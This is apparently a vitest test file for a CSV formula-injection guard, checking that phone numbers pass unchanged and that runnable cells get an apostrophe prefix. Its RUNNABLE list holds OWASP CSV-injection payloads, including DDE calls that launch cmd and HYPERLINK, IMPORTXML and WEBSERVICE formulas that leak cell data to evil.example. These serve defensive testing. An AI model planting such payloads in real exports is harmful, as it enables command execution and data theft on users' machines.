import { describe, expect, it } from 'vitest';
import { guardCell, startsFormula, unguardCell } from './formula-guard';
import { readCsvRows } from './read-rows';
import { formatCell, formatRow } from './write-row';

/** Ten ways people type one phone number, national and international. */
const PHONE_LAYOUTS = [
  '+1 8028323153',
  '+1 210 856 8435',
  '+1-415-555-0100',
  '+1 (415) 555-0100',
  '+61 424 612 772',
  '+4998576338549',
  '+44 20 7946 0958',
  '+33 1.23.45.67.89',
  '+49 30/1234567',
  '-5 555 0100',
];

/** What follows the number in real lists: notes, extensions, tabs and spaces, alone and together. */
const DECORATIONS = [
  '',
  ' (office)',
  ' (mobile) ',
  '(cell)',
  ' (home, evenings)',
  ' (Büro)',
  ', ext. 4012 (cell)',
  ' x123',
  ' ext 12',
  ' Ext.123',
  ' #7',
  '\t',
  ' ',
  '   ',
  ' \t ',
  ' (office)\t',
  ', ext. 4012 (cell) ',
  ' x 55 (direct line)\t\t',
  ' / 0171 2345678 (privat)',
  '\u00a0(main)',
];

/** Every combination: 10 layouts × 20 decorations. */
const DECORATED_PHONES = PHONE_LAYOUTS.flatMap((phone) => DECORATIONS.map((after) => `${phone}${after}`));

/** Other cells that start with `+` or `-` and cannot call anything: kept as typed. */
const INERT = [
  '-7.5',
  '-0.25',
  '+42',
  '-1 000 000',
  '-2+3',
  '+1+1',
  '+1E5',
  '-A1',
  '-Dash',
  '+Plus Inc',
  '+',
  '-',
  '- ',
  '+()',
  '+1 415 555 0100\n',
  '+1\n415',
  '+1 415 555 0100-x123',
  '+(1) 415',
  '- see below -',
  '+1 (800) FLOWERS',
  '+12624450043 (mobile) ',
];

/**
 * Every form that can run: OWASP's CSV injection payloads, DDE, functions reached through arithmetic,
 * full-width forms, and the same behind leading blanks.
 */
const RUNNABLE = [
  // OWASP's list
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&C2,"Click")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-10+20+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=1+1',
  '@SUM(1)',
  '@',
  // Functions and references behind a sign
  '-2+SUM(1)',
  '+SUM(1)',
  '+ SUM (1)',
  '-1-HYPERLINK("http://x")',
  '+_xlfn.WEBSERVICE("http://x")',
  '-x123(1)',
  '+1 415 555 0100 ext(12)',
  '+1 call me (office)',
  "-'C:\\secret\\[book.xlsx]Sheet1'!A1",
  '+A1!B2',
  '-1|2',
  '+1=1',
  '-x@acme.com',
  '+ÄPFEL(1)',
  '+\u{1d400}(1)',
  // Leading tab, CR, LF
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tx',
  '\t+1 415 555 0100',
  // Full-width forms
  '\u{ff1d}1+1',
  '\u{ff20}SUM(1)',
  '\u{ff0b}SUM(1)',
  '\u{ff0d}2+SUM\u{ff08}1)',
  '+cmd\u{ff5c}x',
  '-1\u{ff01}A1',
  '+\u{ff33}\u{ff35}\u{ff2d}(1)',
  // Leading blanks before any of them
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1+1',
  '\u3000\u{ff1d}1',
  "  +cmd|' /C calc'!A0",
  ' \t=1',
];

describe('startsFormula', () => {
  it.each(DECORATED_PHONES)('leaves the phone %j to the spreadsheet', (value) => {
    expect(startsFormula(value)).toBe(false);
  });

  it.each(INERT)('leaves %j, which calls and reaches nothing', (value) => {
    expect(startsFormula(value)).toBe(false);
  });

  it.each(RUNNABLE)('flags %j', (value) => {
    expect(startsFormula(value)).toBe(true);
  });

  it.each(['plain', '415 555 0100', '(415) 555-0100', '1+1', 'a=b', "'=1+1", 'SUM(1)', ' plain', ''])(
    'does not flag %j, which starts with no formula character',
    (value) => {
      expect(startsFormula(value)).toBe(false);
    },
  );
});

describe('guardCell', () => {
  it('writes every decorated phone exactly as it was, and a CSV reader gets it back byte for byte', async () => {
    expect(DECORATED_PHONES).toHaveLength(200);
    for (const value of DECORATED_PHONES) {
      expect(guardCell(value), JSON.stringify(value)).toBe(value);
      expect(unguardCell(value), JSON.stringify(value)).toBe(value);
    }
    const text = `${DECORATED_PHONES.map((phone, i) => formatRow([String(i), phone])).join('\r\n')}\r\n`;
    const read: string[][] = [];
    for await (const batch of readCsvRows(
      (async function* () {
        yield text;
      })(),
    ))
      read.push(...batch);
    expect(read.map((row) => row[1])).toEqual(DECORATED_PHONES);
  });

  it.each(INERT)('writes %j exactly as it was', (value) => {
    expect(guardCell(value)).toBe(value);
    expect(unguardCell(value)).toBe(value);
  });

  it.each([...RUNNABLE, "'=x", "''+SUM(1)", "'@SUM(1)", "'\u{ff1d}1", "' =1"])(
    'guards %j and unguardCell restores it',
    (value) => {
      const guarded = guardCell(value);
      expect(guarded).toBe(`'${value}`);
      expect(unguardCell(guarded)).toBe(value);
      expect(startsFormula(guarded)).toBe(false);
    },
  );

  it.each(['plain', "'quoted'", '', '1+1', 'a=b', "'+1 415 555 0100 (office)", "''-7.5", "'"])(
    'leaves %j alone',
    (value) => {
      expect(guardCell(value)).toBe(value);
      expect(unguardCell(value)).toBe(value);
    },
  );

  it('quotes guarded cells that need quoting', () => {
    expect(formatCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(formatCell('a,b')).toBe('"a,b"');
    expect(formatCell('\n=1+1')).toBe(`"'\n=1+1"`);
    expect(formatCell('+4998576338549, ext. 4012 (cell)')).toBe('"+4998576338549, ext. 4012 (cell)"');
  });

  it('reads a long cell in one pass', () => {
    const long = `+${'a'.repeat(2_000_000)}`;
    const started = performance.now();
    expect(startsFormula(long)).toBe(false);
    expect(startsFormula(`${long}(`)).toBe(true);
    expect(startsFormula(`-${' ('.repeat(1_000_000)}`)).toBe(false);
    // A linear scan takes milliseconds; a backtracking one would take minutes. A loose bound for loaded machines.
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe('unguardCell', () => {
  // Every character the rule looks at, and some it does not, so random strings cross its boundary often.
  const ALPHABET = [
    ..."'''=+-@\t\r\n  \u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}\u{ff08}\u{ff5c}\u{ff01}0123456789().-/xXeAt#:!|\"&,_\u00a0\u3000Ä",
  ];

  /** A deterministic pseudo-random generator (mulberry32), so a failure names a string that reproduces. */
  function random(seed: number) {
    let state = seed;
    return () => {
      state = (state + 0x6d2b79f5) | 0;
      let t = Math.imul(state ^ (state >>> 15), 1 | state);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
  }

  it('is the exact inverse of guardCell over many strings, apostrophes and phones included', () => {
    const next = random(42);
    const samples = [...DECORATED_PHONES, ...INERT, ...RUNNABLE];
    for (let i = 0; i < 30_000; i++) {
      const length = Math.floor(next() * 12);
      let value = '';
      for (let j = 0; j < length; j++) value += ALPHABET[Math.floor(next() * ALPHABET.length)];
      // Half the strings grow from a real phone or formula, behind 0–2 apostrophes, with random text after it.
      if (i % 2 === 0) {
        const base = samples[Math.floor(next() * samples.length)]!;
        value = `${"'".repeat(Math.floor(next() * 3))}${base}${i % 4 === 0 ? value : ''}`;
      }
      const guarded = guardCell(value);
      expect(unguardCell(guarded), JSON.stringify(value)).toBe(value);
      // What is written never starts a formula, and only cells that could are changed.
      expect(startsFormula(guarded), JSON.stringify(guarded)).toBe(false);
      if (guarded !== value) expect(guarded).toBe(`'${value}`);
    }
  });
});
